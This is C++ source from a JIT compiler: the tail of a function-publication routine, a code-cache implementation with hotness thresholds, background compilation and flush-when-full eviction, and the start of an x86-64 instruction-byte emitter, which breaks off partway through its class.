        return nullptr;
    }
    // Flush-when-full: unpublish everything and restart hotness, so
    // only what is still hot comes back. Concurrent executors keep
    // running the old buffers safely — owned_ retains them until the
    // cache dies — and their next lookup falls back to interpreting
    // until the function re-crosses the threshold. Uncompilable
    // sentinels survive the flush (they hold no bytes and a retry
    // would fail the same way). A single unit larger than the whole
    // budget still publishes: the bound can't be met, not honored by
    // thrashing.
    size_t live = liveBytes_.load(std::memory_order_relaxed);
    if (live > 0 && live + compiled->size > maxBytes_) {
        for (auto &slot : fns_) {
            const CompiledFunction *cur =
                slot.load(std::memory_order_acquire);
            if (cur && cur != &kUncompilable)
                slot.store(nullptr, std::memory_order_release);
        }
        for (auto &hcnt : hot_)
            hcnt.store(0, std::memory_order_relaxed);
        liveBytes_.store(0, std::memory_order_relaxed);
        evictions_.fetch_add(1, std::memory_order_relaxed);
        credit->evictions += 1;
    }
    f = compiled.get();
    owned_.push_back(std::move(compiled));
    compiledFunctions_.fetch_add(1, std::memory_order_relaxed);
    compiledBlocks_.fetch_add(f->blocks, std::memory_order_relaxed);
    liveBytes_.fetch_add(f->size, std::memory_order_relaxed);
    credit->blocks += f->blocks;
    credit->codeBytes += f->size;
    fns_[func].store(f, std::memory_order_release);
    return f;
}

} // namespace shift::jit
