/**
 * @file
 * The executable code cache: hotness counting, promotion, and the
 * lifecycle of compiled buffers (see docs/JIT.md).
 *
 * Three orthogonal policies live here:
 *  - Granularity: whole-function units (the default) or lazy
 *    per-dual-version-superblock units, where each block compiles on
 *    its first entry after the function crosses the threshold and
 *    blocks stitch to each other through per-pc publication slots.
 *  - Scheduling: Sync compiles on the executing thread at the
 *    threshold crossing; Background hands requests to the cache's
 *    compile thread over a bounded queue and execution keeps
 *    interpreting until the install's release-store publishes the
 *    body (atomic pointer patch — there is no intermediate state).
 *  - Eviction: flush-when-full against the code-byte budget, shared
 *    by both granularities.
 */

#include "jit/jit.hh"

#include <algorithm>
#include <chrono>

#include "obs/perfmap.hh"
#include "obs/trace.hh"
#include "support/logging.hh"

#if SHIFT_JIT_BACKEND
#include <sys/mman.h>
#endif

namespace shift::jit
{

bool
available()
{
    return SHIFT_JIT_BACKEND != 0;
}

const CompiledFunction CodeCache::kUncompilable;
CodeCache::LazyFunction CodeCache::kLazyDead;

namespace
{

/** Monotonic nanoseconds for the compile-pipeline latency samples. */
uint64_t
nowNs()
{
    return uint64_t(std::chrono::duration_cast<std::chrono::nanoseconds>(
                        std::chrono::steady_clock::now()
                            .time_since_epoch())
                        .count());
}

} // namespace

CompiledFunction::~CompiledFunction()
{
#if SHIFT_JIT_BACKEND
    if (buf && ownsBuf)
        munmap(buf, size);
#endif
}

CodeCache::CodeCache(std::shared_ptr<const DecodedProgram> program,
                     CompileEnv env, uint32_t threshold,
                     size_t maxBytes, CompileMode mode,
                     bool lazyBlocks)
    : program_(std::move(program)),
      env_(env),
      threshold_(threshold ? threshold : kDefaultThreshold),
      maxBytes_(maxBytes ? maxBytes : kDefaultMaxBytes),
      mode_(mode),
      lazy_(lazyBlocks),
      hot_(program_->functions.size()),
      fns_(program_->functions.size()),
      lazyFns_(program_->functions.size())
{
    SHIFT_ASSERT(program_, "code cache needs a program");
    if (lazy_) {
        entryThunk_ = compileEntryThunk();
        if (!entryThunk_)
            lazy_ = false; // backend unavailable: nothing compiles
    }
    if (mode_ == CompileMode::Background && available())
        worker_ = std::thread([this] { workerLoop(); });
}

CodeCache::~CodeCache()
{
    if (worker_.joinable()) {
        {
            std::lock_guard<std::mutex> lock(queueMutex_);
            stop_ = true;
        }
        queueCv_.notify_all();
        worker_.join();
    }
}

/**
 * Flush-when-full: unpublish everything and restart hotness, so only
 * what is still hot comes back. Concurrent executors keep running the
 * old buffers safely — owned_ retains them until the cache dies — and
 * their next lookup falls back to interpreting until the unit
 * re-publishes. Uncompilable/dead sentinels survive the flush (they
 * hold no bytes and a retry would fail the same way), and so do lazy
 * queued marks (their request is already in flight). A single unit
 * larger than the whole budget still publishes: the bound can't be
 * met, not honored by thrashing. Lazy slot arrays are never freed or
 * moved — their addresses are baked into emitted edge stubs — so a
 * flush only nulls the published values inside them.
 */
void
CodeCache::flushIfNeededLocked(size_t incoming, Credit *credit)
{
    size_t live = liveBytes_.load(std::memory_order_relaxed);
    if (live == 0 || live + incoming <= maxBytes_)
        return;
    for (auto &slot : fns_) {
        const CompiledFunction *cur =
            slot.load(std::memory_order_acquire);
        if (cur && cur != &kUncompilable)
            slot.store(nullptr, std::memory_order_release);
    }
    auto clearSlots = [](std::vector<std::atomic<const void *>> &v) {
        for (auto &s : v) {
            const void *cur = s.load(std::memory_order_acquire);
            if (reinterpret_cast<uintptr_t>(cur) > kLazySlotQueued)
                s.store(nullptr, std::memory_order_release);
        }
    };
    for (auto &lfSlot : lazyFns_) {
        LazyFunction *lf = lfSlot.load(std::memory_order_acquire);
        if (!lf || lf == &kLazyDead)
            continue;
        clearSlots(lf->slow);
        clearSlots(lf->fast);
    }
    for (auto &hcnt : hot_)
        hcnt.store(0, std::memory_order_relaxed);
    liveBytes_.store(0, std::memory_order_relaxed);
    evictions_.fetch_add(1, std::memory_order_relaxed);
    credit->evictions += 1;
    obs::note(obs::Ev::JitEvict, 0, -1, 0, live, 0);
}

/**
 * Seal-side observability, under compileMutex_ after a successful
 * publish: latency samples, the JitCompile flight-recorder event, and
 * perf-map / jitdump symbols so host `perf report` attributes samples
 * inside this unit by guest `<function>@<pc>` (docs/OBSERVABILITY.md).
 */
void
CodeCache::noteSealedLocked(int func, bool inFast, int64_t pc,
                            const CompiledFunction *f, size_t codeBytes,
                            const void *codeAddr, uint64_t compileNs,
                            uint64_t sealNs)
{
    compileNanos_.record(compileNs);
    sealNanos_.record(sealNs);
    obs::note(obs::Ev::JitCompile, uint16_t(inFast), func,
              pc >= 0 ? uint64_t(pc) : 0, codeBytes, compileNs);
    if (!obs::PerfJitSink::active() || !codeAddr || codeBytes == 0)
        return;
    const std::string &fn = program_->functions[size_t(func)].src->name;
    if (pc >= 0) {
        // Lazy unit: one superblock, entry at offset 0.
        std::string sym = fn + "@" + std::to_string(pc);
        if (inFast)
            sym += ".fast";
        obs::PerfJitSink::add(sym, codeAddr, codeBytes);
        return;
    }
    // Whole-function unit: both streams share one buffer; per-block
    // extents come from the entry-offset tables (sorted offsets, each
    // block runs to the next entry or the buffer end).
    struct Block
    {
        int32_t off;
        uint32_t pc;
        bool fast;
    };
    std::vector<Block> blocks;
    for (size_t i = 0; i < f->slowEntry.size(); ++i)
        if (f->slowEntry[i] >= 0)
            blocks.push_back({f->slowEntry[i], uint32_t(i), false});
    for (size_t i = 0; i < f->fastEntry.size(); ++i)
        if (f->fastEntry[i] >= 0)
            blocks.push_back({f->fastEntry[i], uint32_t(i), true});
    if (blocks.empty()) {
        obs::PerfJitSink::add(fn + "@0", codeAddr, codeBytes);
        return;
    }
    std::sort(blocks.begin(), blocks.end(),
              [](const Block &a, const Block &b) { return a.off < b.off; });
    // The entry thunk (and any shared prologue) before the first
    // block entry gets its own symbol.
    if (blocks.front().off > 0)
        obs::PerfJitSink::add(fn + "@thunk", codeAddr,
                              size_t(blocks.front().off));
    for (size_t i = 0; i < blocks.size(); ++i) {
        size_t end = i + 1 < blocks.size() ? size_t(blocks[i + 1].off)
                                           : codeBytes;
        if (end <= size_t(blocks[i].off))
            continue;
        std::string sym = fn + "@" + std::to_string(blocks[i].pc);
        if (blocks[i].fast)
            sym += ".fast";
        obs::PerfJitSink::add(
            sym,
            static_cast<const uint8_t *>(codeAddr) + blocks[i].off,
            end - size_t(blocks[i].off));
    }
}

void
CodeCache::drainStatsInto(StatSet &stats)
{
    {
        std::lock_guard<std::mutex> lock(compileMutex_);
        if (queueWaitNanos_.count()) {
            stats.mergeHistogram("jit.queueWait.nanos", queueWaitNanos_);
            queueWaitNanos_ = Histogram();
        }
        if (compileNanos_.count()) {
            stats.mergeHistogram("jit.compile.nanos", compileNanos_);
            compileNanos_ = Histogram();
        }
        if (sealNanos_.count()) {
            stats.mergeHistogram("jit.seal.nanos", sealNanos_);
            sealNanos_ = Histogram();
        }
    }
    uint64_t bg = bgCompileNanos_.exchange(0, std::memory_order_relaxed);
    if (bg)
        stats.add("prof.aux.compile.nanos", bg);
}

const CompiledFunction *
CodeCache::publishFunctionLocked(
    int func, std::unique_ptr<CompiledFunction> compiled,
    Credit *credit)
{
    const CompiledFunction *cur =
        fns_[size_t(func)].load(std::memory_order_acquire);
    if (cur) // a racer published first; drop ours
        return cur == &kUncompilable ? nullptr : cur;
    if (!compiled) {
        fns_[size_t(func)].store(&kUncompilable,
                                 std::memory_order_release);
        return nullptr;
    }
    flushIfNeededLocked(compiled->size, credit);
    const CompiledFunction *f = compiled.get();
    owned_.push_back(std::move(compiled));
    compiledFunctions_.fetch_add(1, std::memory_order_relaxed);
    compiledBlocks_.fetch_add(f->blocks, std::memory_order_relaxed);
    liveBytes_.fetch_add(f->size, std::memory_order_relaxed);
    credit->blocks += f->blocks;
    credit->codeBytes += f->size;
    fns_[size_t(func)].store(f, std::memory_order_release);
    return f;
}

const void *
CodeCache::publishBlockLocked(
    std::vector<std::atomic<const void *>> &slots, size_t pc,
    std::unique_ptr<CompiledFunction> compiled, Credit *credit)
{
    const void *cur = slots[pc].load(std::memory_order_acquire);
    if (reinterpret_cast<uintptr_t>(cur) > kLazySlotQueued)
        return cur; // a racer published first; drop ours
    if (reinterpret_cast<uintptr_t>(cur) == kLazySlotDead)
        return nullptr;
    if (!compiled) {
        slots[pc].store(reinterpret_cast<const void *>(kLazySlotDead),
                        std::memory_order_release);
        return nullptr;
    }
    flushIfNeededLocked(compiled->size, credit);
    const CompiledFunction *f = compiled.get();
    owned_.push_back(std::move(compiled));
    compiledBlocks_.fetch_add(1, std::memory_order_relaxed);
    liveBytes_.fetch_add(f->size, std::memory_order_relaxed);
    credit->blocks += 1;
    credit->codeBytes += f->size;
    slots[pc].store(f->buf, std::memory_order_release);
    return f->buf;
}

const CompiledFunction *
CodeCache::hot(int func, Credit *credit)
{
    const CompiledFunction *f =
        fns_[func].load(std::memory_order_acquire);
    if (f)
        return f == &kUncompilable ? nullptr : f;
    // Exactly one caller observes the crossing and compiles; racers
    // keep interpreting until the body is published. The counter
    // keeps counting past the threshold, which is harmless.
    uint32_t h =
        hot_[func].fetch_add(1, std::memory_order_relaxed) + 1;
    if (h != threshold_)
        return nullptr;
    // Background: hand the crossing to the compile thread and keep
    // interpreting. The crossing fires exactly once, so a full (or
    // stopped) queue must not drop it — fall back to compiling here.
    if (mode_ == CompileMode::Background &&
        enqueue({func, 0, 0, 1, nowNs()}))
        return nullptr;
    std::lock_guard<std::mutex> lock(compileMutex_);
    if (const CompiledFunction *raced =
            fns_[size_t(func)].load(std::memory_order_acquire))
        return raced == &kUncompilable ? nullptr : raced;
    uint64_t t0 = nowNs();
    std::unique_ptr<CompiledFunction> compiled =
        compileFunction(program_->functions[func], env_, &arena_);
    uint64_t t1 = nowNs();
    const CompiledFunction *pub =
        publishFunctionLocked(func, std::move(compiled), credit);
    uint64_t t2 = nowNs();
    credit->compileNanos += t2 - t0;
    if (pub)
        noteSealedLocked(func, false, -1, pub, pub->size, pub->buf,
                         t1 - t0, t2 - t1);
    return pub;
}

/**
 * Lazy-tier promotion: get (or create, at the per-function threshold
 * crossing) the function's slot arrays. kLazyDead = the function's
 * control flow failed leader analysis and will never compile.
 */
CodeCache::LazyFunction *
CodeCache::lazyFunctionFor(int func, Credit *credit)
{
    (void)credit;
    LazyFunction *lf = lazyFns_[size_t(func)].load(
        std::memory_order_acquire);
    if (lf)
        return lf;
    uint32_t h =
        hot_[func].fetch_add(1, std::memory_order_relaxed) + 1;
    if (h != threshold_)
        return nullptr;
    std::lock_guard<std::mutex> lock(compileMutex_);
    lf = lazyFns_[size_t(func)].load(std::memory_order_acquire);
    if (lf)
        return lf;
    const DecodedFunction &df = program_->functions[func];
    auto fresh = std::make_unique<LazyFunction>();
    if (!computeLeaders(df, env_, fresh->slowLead, fresh->fastLead)) {
        lazyFns_[size_t(func)].store(&kLazyDead,
                                     std::memory_order_release);
        return &kLazyDead;
    }
    fresh->slow =
        std::vector<std::atomic<const void *>>(df.code.size());
    fresh->fast =
        std::vector<std::atomic<const void *>>(df.fast.size());
    if (mode_ == CompileMode::Background) {
        fresh->slowHeat =
            std::vector<std::atomic<uint8_t>>(df.code.size());
        fresh->fastHeat =
            std::vector<std::atomic<uint8_t>>(df.fast.size());
    }
    lf = fresh.get();
    lazyOwned_.push_back(std::move(fresh));
    compiledFunctions_.fetch_add(1, std::memory_order_relaxed);
    lazyFns_[size_t(func)].store(lf, std::memory_order_release);
    return lf;
}

CodeCache::Entry
CodeCache::entryAt(int func, bool inFast, uint64_t pc, Credit *credit)
{
    if (mode_ == CompileMode::Background)
        drainPending(credit);
    if (!lazy_) {
        const CompiledFunction *jf = hot(func, credit);
        if (!jf)
            return {};
        const void *code = jf->entryFor(inFast, pc);
        if (!code)
            return {};
        return {jf->thunk, code};
    }
    LazyFunction *lf = lazyFunctionFor(func, credit);
    if (!lf || lf == &kLazyDead)
        return {};
    auto &slots = inFast ? lf->fast : lf->slow;
    const auto &lead = inFast ? lf->fastLead : lf->slowLead;
    if (pc >= slots.size() || !lead[pc])
        return {};
    const void *cur = slots[pc].load(std::memory_order_acquire);
    if (reinterpret_cast<uintptr_t>(cur) > kLazySlotQueued)
        return {entryThunk_->thunk, cur};
    if (reinterpret_cast<uintptr_t>(cur) == kLazySlotDead)
        return {};
    if (mode_ == CompileMode::Background) {
        // Block-level heat gate: don't hand the worker blocks that
        // are entered only once or twice — on a short run the compile
        // time would never pay back. Saturating relaxed counter.
        auto &heat = inFast ? lf->fastHeat : lf->slowHeat;
        uint8_t h = heat[pc].load(std::memory_order_relaxed);
        if (h < kLazyBlockHeat) {
            heat[pc].store(uint8_t(h + 1), std::memory_order_relaxed);
            if (h + 1 < kLazyBlockHeat)
                return {};
        }
        const void *expected = nullptr;
        if (slots[pc].compare_exchange_strong(
                expected,
                reinterpret_cast<const void *>(kLazySlotQueued),
                std::memory_order_acq_rel)) {
            if (enqueue({func, int32_t(pc), inFast ? uint8_t(1)
                                                   : uint8_t(0),
                         0, nowNs()}))
                return {};
            // Queue overflow: the mark is set and nobody will serve
            // it — compile synchronously below.
        } else {
            // Raced: someone else queued it, or it just published.
            cur = slots[pc].load(std::memory_order_acquire);
            if (reinterpret_cast<uintptr_t>(cur) > kLazySlotQueued)
                return {entryThunk_->thunk, cur};
            return {};
        }
    }
    std::lock_guard<std::mutex> lock(compileMutex_);
    uint64_t t0 = nowNs();
    std::unique_ptr<CompiledFunction> compiled =
        compileBlock(program_->functions[func], env_, func, inFast,
                     pc, lf->slow.data(), lf->fast.data(),
                     lf->slowLead, lf->fastLead, &arena_);
    uint64_t t1 = nowNs();
    size_t unitBytes = compiled ? compiled->size : 0;
    const void *ourBuf = compiled ? compiled->buf : nullptr;
    const void *code =
        publishBlockLocked(slots, pc, std::move(compiled), credit);
    uint64_t t2 = nowNs();
    credit->compileNanos += t2 - t0;
    if (!code)
        return {};
    if (code == ourBuf) // not a racer's earlier install
        noteSealedLocked(func, inFast, int64_t(pc), nullptr, unitBytes,
                         code, t1 - t0, t2 - t1);
    return {entryThunk_->thunk, code};
}

CodeCache::Entry
CodeCache::peekAt(int func, bool inFast, uint64_t pc) const
{
    if (!lazy_) {
        const CompiledFunction *jf = peek(func);
        if (!jf)
            return {};
        const void *code = jf->entryFor(inFast, pc);
        if (!code)
            return {};
        return {jf->thunk, code};
    }
    const LazyFunction *lf = lazyFns_[size_t(func)].load(
        std::memory_order_acquire);
    if (!lf || lf == &kLazyDead)
        return {};
    const auto &slots = inFast ? lf->fast : lf->slow;
    if (pc >= slots.size())
        return {};
    const void *cur = slots[pc].load(std::memory_order_acquire);
    if (reinterpret_cast<uintptr_t>(cur) <= kLazySlotQueued)
        return {};
    return {entryThunk_->thunk, cur};
}

bool
CodeCache::enqueue(const CompileReq &req)
{
    if (!worker_.joinable())
        return false; // backend unavailable: no thread to serve it
    {
        std::lock_guard<std::mutex> lock(queueMutex_);
        if (stop_ || queue_.size() >= kMaxQueue)
            return false;
        queue_.push_back(req);
        auto depth = uint64_t(queue_.size());
        if (depth > queueHighWater_.load(std::memory_order_relaxed))
            queueHighWater_.store(depth, std::memory_order_relaxed);
    }
    queueCv_.notify_one();
    return true;
}

void
CodeCache::drainPending(Credit *credit)
{
    // Loads first: this runs on every block-entry lookup in
    // background mode, and almost all of them find nothing parked.
    // Three relaxed loads of (usually cached, zero) counters are far
    // cheaper than three unconditional atomic exchanges.
    if (pendingBlocks_.load(std::memory_order_relaxed) == 0 &&
        pendingBytes_.load(std::memory_order_relaxed) == 0 &&
        pendingEvictions_.load(std::memory_order_relaxed) == 0)
        return;
    credit->blocks +=
        pendingBlocks_.exchange(0, std::memory_order_relaxed);
    credit->codeBytes +=
        pendingBytes_.exchange(0, std::memory_order_relaxed);
    credit->evictions +=
        pendingEvictions_.exchange(0, std::memory_order_relaxed);
}

/**
 * The background compile thread: drain requests, compile outside
 * every lock (only publication takes compileMutex_), park the credit
 * in the pending accumulators for the next counting lookup to claim.
 * A lost race against a synchronous compile just discards the loser's
 * buffer inside publish*Locked.
 */
void
CodeCache::workerLoop()
{
    std::unique_lock<std::mutex> lock(queueMutex_);
    for (;;) {
        queueCv_.wait(lock,
                      [&] { return stop_ || !queue_.empty(); });
        if (stop_)
            return;
        CompileReq req = queue_.front();
        queue_.pop_front();
        lock.unlock();
        Credit credit;
        uint64_t t0 = nowNs();
        uint64_t queueWait =
            req.enqueueNs && t0 > req.enqueueNs ? t0 - req.enqueueNs : 0;
        if (req.whole) {
            std::unique_ptr<CompiledFunction> compiled =
                compileFunction(program_->functions[req.func], env_,
                                &arena_);
            uint64_t t1 = nowNs();
            std::lock_guard<std::mutex> cl(compileMutex_);
            const CompiledFunction *f = publishFunctionLocked(
                req.func, std::move(compiled), &credit);
            uint64_t t2 = nowNs();
            queueWaitNanos_.record(queueWait);
            if (f && credit.codeBytes)
                noteSealedLocked(req.func, false, -1, f, f->size,
                                 f->buf, t1 - t0, t2 - t1);
            bgCompileNanos_.fetch_add(t2 - t0,
                                      std::memory_order_relaxed);
        } else {
            LazyFunction *lf = lazyFns_[size_t(req.func)].load(
                std::memory_order_acquire);
            if (lf && lf != &kLazyDead) {
                auto &slots = req.inFast ? lf->fast : lf->slow;
                const void *cur =
                    slots[size_t(req.pc)].load(
                        std::memory_order_acquire);
                if (reinterpret_cast<uintptr_t>(cur) <=
                        kLazySlotQueued &&
                    reinterpret_cast<uintptr_t>(cur) !=
                        kLazySlotDead) {
                    auto compiled = compileBlock(
                        program_->functions[req.func], env_,
                        req.func, req.inFast != 0, size_t(req.pc),
                        lf->slow.data(), lf->fast.data(),
                        lf->slowLead, lf->fastLead, &arena_);
                    uint64_t t1 = nowNs();
                    size_t unitBytes = compiled ? compiled->size : 0;
                    const void *ourBuf =
                        compiled ? compiled->buf : nullptr;
                    std::lock_guard<std::mutex> cl(compileMutex_);
                    const void *code = publishBlockLocked(
                        slots, size_t(req.pc), std::move(compiled),
                        &credit);
                    uint64_t t2 = nowNs();
                    queueWaitNanos_.record(queueWait);
                    if (code && code == ourBuf)
                        noteSealedLocked(req.func, req.inFast != 0,
                                         int64_t(req.pc), nullptr,
                                         unitBytes, code, t1 - t0,
                                         t2 - t1);
                    bgCompileNanos_.fetch_add(
                        t2 - t0, std::memory_order_relaxed);
                }
            }
        }
        pendingBlocks_.fetch_add(credit.blocks,
                                 std::memory_order_relaxed);
        pendingBytes_.fetch_add(credit.codeBytes,
                                std::memory_order_relaxed);
        pendingEvictions_.fetch_add(credit.evictions,
                                    std::memory_order_relaxed);
        lock.lock();
    }
}

} // namespace shift::jit
