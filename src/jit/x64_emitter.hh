/**
 * @file
 * A minimal x86-64 byte emitter for the JIT tier: just the encodings
 * the template lowering in src/jit/compiler.cc needs, with forward
 * labels resolved by rel32 fixup. No scheduling, no register
 * allocation — the compiler drives it with a fixed register plan.
 *
 * Encoding notes kept deliberately simple:
 *  - Memory operands are always [base + disp32] (mod=10). A SIB byte
 *    is inserted when the base register is rsp/r12 (rm == 4); rbp/r13
 *    need no special case because mod=10 always carries a disp.
 *  - All label jumps use rel32 forms; short-jump compaction is not
 *    worth the complexity at these buffer sizes (a few KB/function).
 *
 * The emitter itself is portable C++ (it only builds byte vectors);
 * only mapping the result executable is platform work, and that lives
 * in code_cache.cc behind SHIFT_JIT_BACKEND.
 */

#ifndef SHIFT_JIT_X64_EMITTER_HH
#define SHIFT_JIT_X64_EMITTER_HH

#include <cstdint>
#include <cstring>
#include <vector>

#include "support/logging.hh"

namespace shift::jit
{

enum Reg : uint8_t
{
    RAX = 0,
    RCX = 1,
    RDX = 2,
    RBX = 3,
    RSP = 4,
    RBP = 5,
    RSI = 6,
    RDI = 7,
    R8 = 8,
    R9 = 9,
    R10 = 10,
    R11 = 11,
    R12 = 12,
    R13 = 13,
    R14 = 14,
    R15 = 15,
};

/** x86 condition codes (the cc nibble of 0F 8x / 0F 9x). */
enum Cond : uint8_t
{
    CC_O = 0x0,
    CC_NO = 0x1,
    CC_B = 0x2,  ///< unsigned <
    CC_AE = 0x3, ///< unsigned >=
    CC_E = 0x4,
    CC_NE = 0x5,
    CC_BE = 0x6, ///< unsigned <=
    CC_A = 0x7,  ///< unsigned >
    CC_S = 0x8,
    CC_NS = 0x9,
    CC_L = 0xc,  ///< signed <
    CC_GE = 0xd, ///< signed >=
    CC_LE = 0xe, ///< signed <=
    CC_G = 0xf,  ///< signed >
};

class Emitter
{
  public:
    Emitter()
    {
        // A typical compiled function lands in the 10-30KB range;
        // reserving up front keeps the hot emit path free of
        // reallocation (compile time shows up in end-to-end MIPS
        // because every session compiles its own hot set).
        buf_.reserve(32 * 1024);
        labels_.reserve(256);
        fixups_.reserve(256);
    }

    size_t size() const { return buf_.size(); }
    const uint8_t *data() const { return buf_.data(); }

    // ---- labels ----------------------------------------------------

    int newLabel()
    {
        labels_.push_back(-1);
        return int(labels_.size()) - 1;
    }

    void bind(int label)
    {
        SHIFT_ASSERT(labels_[label] < 0, "label bound twice");
        labels_[label] = int64_t(buf_.size());
    }

    bool bound(int label) const { return labels_[label] >= 0; }

    /** Patch every recorded rel32 against final label offsets. */
    void finalize()
    {
        for (const Fixup &f : fixups_) {
            int64_t target = labels_[f.label];
            SHIFT_ASSERT(target >= 0, "unbound jit label");
            int64_t rel = target - (int64_t(f.at) + 4);
            SHIFT_ASSERT(rel >= INT32_MIN && rel <= INT32_MAX,
                         "jit rel32 overflow");
            int32_t rel32 = int32_t(rel);
            std::memcpy(&buf_[f.at], &rel32, 4);
        }
        fixups_.clear();
    }

    // ---- control flow ----------------------------------------------

    void jmp(int label)
    {
        byte(0xe9);
        rel32(label);
    }

    void jcc(Cond cc, int label)
    {
        byte(0x0f);
        byte(0x80 | cc);
        rel32(label);
    }

    void jmpReg(Reg r)
    {
        rexOpt(0, 4, r);
        byte(0xff);
        modrm(3, 4, r & 7);
    }

    void callReg(Reg r)
    {
        rexOpt(0, 2, r);
        byte(0xff);
        modrm(3, 2, r & 7);
    }

    void ret() { byte(0xc3); }

    // ---- moves -----------------------------------------------------

    void movRegImm64(Reg dst, uint64_t imm)
    {
        if (imm == 0) {
            xorRegReg32(dst, dst);
            return;
        }
        if (imm <= UINT32_MAX) {
            // mov r32, imm32 zero-extends.
            rexOpt(0, 0, dst);
            byte(0xb8 | (dst & 7));
            word32(uint32_t(imm));
            return;
        }
        rex(1, 0, dst);
        byte(0xb8 | (dst & 7));
        word64(imm);
    }

    void movRegReg(Reg dst, Reg src)
    {
        rex(1, src, dst);
        byte(0x89);
        modrm(3, src & 7, dst & 7);
    }

    /** mov dst, qword [base + disp] */
    void movRegMem(Reg dst, Reg base, int32_t disp)
    {
        rex(1, dst, base);
        byte(0x8b);
        mem(dst, base, disp);
    }

    /** mov qword [base + disp], src */
    void movMemReg(Reg base, int32_t disp, Reg src)
    {
        rex(1, src, base);
        byte(0x89);
        mem(src, base, disp);
    }

    /** mov qword [base + disp], imm32 (sign-extended) */
    void movMemImm32(Reg base, int32_t disp, int32_t imm)
    {
        rex(1, 0, base);
        byte(0xc7);
        mem(Reg(0), base, disp);
        word32(uint32_t(imm));
    }

    /** movzx dst32, byte [base + disp] */
    void movzxByteMem(Reg dst, Reg base, int32_t disp)
    {
        rexOpt(0, dst, base);
        byte(0x0f);
        byte(0xb6);
        mem(dst, base, disp);
    }

    /** movzx dst32, word [base + disp] */
    void movzxWordMem(Reg dst, Reg base, int32_t disp)
    {
        rexOpt(0, dst, base);
        byte(0x0f);
        byte(0xb7);
        mem(dst, base, disp);
    }

    /** mov dst32, dword [base + disp] (zero-extends into dst64) */
    void movRegMem32(Reg dst, Reg base, int32_t disp)
    {
        rexOpt(0, dst, base);
        byte(0x8b);
        mem(dst, base, disp);
    }

    /** mov word [base + disp], src16 */
    void movWordMemReg(Reg base, int32_t disp, Reg src)
    {
        byte(0x66); // operand-size prefix precedes REX
        rexOpt(0, src, base);
        byte(0x89);
        mem(src, base, disp);
    }

    /** mov dword [base + disp], src32 */
    void movMemReg32(Reg base, int32_t disp, Reg src)
    {
        rexOpt(0, src, base);
        byte(0x89);
        mem(src, base, disp);
    }

    /** mov byte [base + disp], imm8 */
    void movByteMemImm(Reg base, int32_t disp, uint8_t imm)
    {
        rexOpt(0, 0, base);
        byte(0xc6);
        mem(Reg(0), base, disp);
        byte(imm);
    }

    /**
     * mov byte [base + disp], src8. Forces a REX prefix so sil/dil
     * and r8b+ encode correctly for any src.
     */
    void movByteMemReg(Reg base, int32_t disp, Reg src)
    {
        rex8(src, base);
        byte(0x88);
        mem(src, base, disp);
    }

    // ---- arithmetic / logic ----------------------------------------

    enum Alu : uint8_t
    {
        ALU_ADD = 0,
        ALU_OR = 1,
        ALU_AND = 4,
        ALU_SUB = 5,
        ALU_XOR = 6,
        ALU_CMP = 7,
    };

    void aluRegReg(Alu op, Reg dst, Reg src)
    {
        rex(1, src, dst);
        byte(uint8_t(op << 3) | 0x01);
        modrm(3, src & 7, dst & 7);
    }

    void aluRegImm32(Alu op, Reg dst, int32_t imm)
    {
        rex(1, 0, dst);
        if (imm >= -128 && imm <= 127) {
            byte(0x83); // sign-extended imm8 short form
            modrm(3, op, dst & 7);
            byte(uint8_t(imm));
            return;
        }
        byte(0x81);
        modrm(3, op, dst & 7);
        word32(uint32_t(imm));
    }

    void aluRegReg32(Alu op, Reg dst, Reg src)
    {
        rexOpt(0, src, dst);
        byte(uint8_t(op << 3) | 0x01);
        modrm(3, src & 7, dst & 7);
    }

    /** op qword [base + disp], imm32 (sign-extended; imm8 short form
     *  when the value fits — the charge-accounting adds almost always
     *  do, and the 3-byte saving per add is the bulk of the code-size
     *  win of the compiled tier). */
    void aluMemImm32(Alu op, Reg base, int32_t disp, int32_t imm)
    {
        rex(1, 0, base);
        if (imm >= -128 && imm <= 127) {
            byte(0x83);
            mem(Reg(op), base, disp);
            byte(uint8_t(imm));
            return;
        }
        byte(0x81);
        mem(Reg(op), base, disp);
        word32(uint32_t(imm));
    }

    /** op dword [base + disp], imm32 (32-bit operand) */
    void aluMemImm32_32(Alu op, Reg base, int32_t disp, int32_t imm)
    {
        rexOpt(0, 0, base);
        if (imm >= -128 && imm <= 127) {
            byte(0x83);
            mem(Reg(op), base, disp);
            byte(uint8_t(imm));
            return;
        }
        byte(0x81);
        mem(Reg(op), base, disp);
        word32(uint32_t(imm));
    }

    /** op qword [base + disp], src */
    void aluMemReg(Alu op, Reg base, int32_t disp, Reg src)
    {
        rex(1, src, base);
        byte(uint8_t(op << 3) | 0x01);
        mem(src, base, disp);
    }

    /** op dst, qword [base + disp] */
    void aluRegMem(Alu op, Reg dst, Reg base, int32_t disp)
    {
        rex(1, dst, base);
        byte(uint8_t(op << 3) | 0x03);
        mem(dst, base, disp);
    }

    void xorRegReg32(Reg dst, Reg src)
    {
        rexOpt(0, src, dst);
        byte(0x31);
        modrm(3, src & 7, dst & 7);
    }

    void testRegReg(Reg a, Reg b)
    {
        rex(1, b, a);
        byte(0x85);
        modrm(3, b & 7, a & 7);
    }

    void testRegReg32(Reg a, Reg b)
    {
        rexOpt(0, b, a);
        byte(0x85);
        modrm(3, b & 7, a & 7);
    }

    void cmpRegImm32(Reg r, int32_t imm)
    {
        aluRegImm32(ALU_CMP, r, imm);
    }

    /** cmp byte [base + disp], imm8 */
    void cmpByteMemImm(Reg base, int32_t disp, uint8_t imm)
    {
        rexOpt(0, 7, base);
        byte(0x80);
        mem(Reg(7), base, disp);
        byte(imm);
    }

    /** cmp dword reg32, imm32 */
    void cmpRegImm32_32(Reg r, int32_t imm)
    {
        rexOpt(0, 0, r);
        byte(0x81);
        modrm(3, 7, r & 7);
        word32(uint32_t(imm));
    }

    void imulRegReg(Reg dst, Reg src)
    {
        rex(1, dst, src);
        byte(0x0f);
        byte(0xaf);
        modrm(3, dst & 7, src & 7);
    }

    void negReg(Reg r)
    {
        rex(1, 3, r);
        byte(0xf7);
        modrm(3, 3, r & 7);
    }

    /** rdx:rax /= r, unsigned: quotient in rax, remainder in rdx. */
    void divReg(Reg r)
    {
        rex(1, 6, r);
        byte(0xf7);
        modrm(3, 6, r & 7);
    }

    /** rdx:rax /= r, signed: quotient in rax, remainder in rdx. */
    void idivReg(Reg r)
    {
        rex(1, 7, r);
        byte(0xf7);
        modrm(3, 7, r & 7);
    }

    /** Sign-extend rax into rdx:rax (the idiv setup). */
    void cqo()
    {
        byte(0x48);
        byte(0x99);
    }

    void notReg(Reg r)
    {
        rex(1, 2, r);
        byte(0xf7);
        modrm(3, 2, r & 7);
    }

